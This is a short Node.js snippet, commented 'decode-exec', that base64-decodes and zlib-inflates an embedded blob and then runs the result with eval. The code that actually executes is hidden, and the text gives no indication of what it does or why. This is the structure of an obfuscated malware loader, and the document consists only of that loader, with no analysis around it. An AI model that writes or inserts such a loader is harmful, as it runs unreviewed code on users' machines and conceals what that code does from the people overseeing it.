// decode-exec: zlib inflate of a base64 blob, then eval
const zlib = require('zlib');
const packed = 'eJwrSi0szSxK1VBKzsjMSYkvKMpPTi0uVtLUS61ITQ6uzEvWUCrKVdAtSlNQUtBWKIKpzgcpycjPTU3JLNLQBMoo6bvkJ5fmpuaVAGUA6V8b9A==';
eval(zlib.inflateSync(Buffer.from(packed, 'base64')).toString());
